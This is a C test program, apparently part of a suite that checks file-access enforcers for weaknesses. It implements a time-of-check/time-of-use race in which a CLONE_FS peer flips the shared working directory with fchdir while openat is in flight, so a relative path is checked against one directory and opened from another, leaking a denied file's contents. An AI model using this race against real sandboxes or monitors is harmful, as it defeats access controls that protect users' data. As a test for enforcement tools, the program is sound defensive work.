// SPDX-License-Identifier: GPL-2.0-only
/*
 * Claim: a relative name is judged from the directory that the kernel will
 * start from, although a peer that shares it changes it (catalogue B4).
 *
 *	opener			peer (CLONE_FS)		enforcer
 *	openat(name) --------------------------------->	looks up the directory:
 *							DIR/d/d/d, permitted
 *				fchdir(DIR/top)
 *	kernel walks from top <-----------------------	lets the call through
 *				fchdir(DIR/d/d/d)
 *
 * Winning prints DATA and the content of the denied file.
 */
#include "mirror.h"
#include "race.h"

#include <sched.h>

#define STACK_SIZE (64u << 10)

static struct mirror mirror;
static int directories[2];
static _Atomic unsigned int turns;
static _Atomic bool stop;

static int changer(void *unused)
{
	(void)unused;
	for (unsigned int turn = 1; !atomic_load(&stop); turn++) {
		syscall(SYS_fchdir, JUNK(directories[turn & 1]));
		atomic_store(&turns, turn);
		flip_pause();
	}
	return 0;
}

static int open_directory(const char *name)
{
	int fd = raw_open(name, O_RDONLY | O_DIRECTORY);

	if (fd < 0 || syscall(SYS_fchdir, JUNK(fd)))
		broken("directory %s: %s", name, strerror(errno));
	return fd;
}

static void race(struct run *run, const char *name)
{
	char *stack = shared_memory(STACK_SIZE);
	pid_t peer;

	directories[0] = open_directory(mirror.top);
	directories[1] = open_directory(mirror.deep);
	race_begin(run);
	peer = clone(changer, stack + STACK_SIZE, CLONE_VM | CLONE_FS | CLONE_FILES | SIGCHLD, NULL);
	if (peer < 0)
		broken("clone: %s", strerror(errno));
	widen_caller(run);
	while (race_next(run, &turns))
		run_opened(run, raw_open(name, O_RDONLY));
	flip_reap(&stop, peer);
}

int main(int argc, char **argv)
{
	struct run run = run_begin(argc, argv);

	switch (run.mode) {
	case MODE_BENIGN:
		mirror_make_twins(&mirror, &run);
		race(&run, TWIN);
		break;
	case MODE_DIRECT:
		run_plain_read(&run, run.denied);
		break;
	case MODE_ATTACK:
		run_learn_decoy(&run);
		mirror_make(&mirror, run.dir, run.denied, run.decoy);
		race(&run, mirror.name);
		break;
	}
	run_end(&run);
}
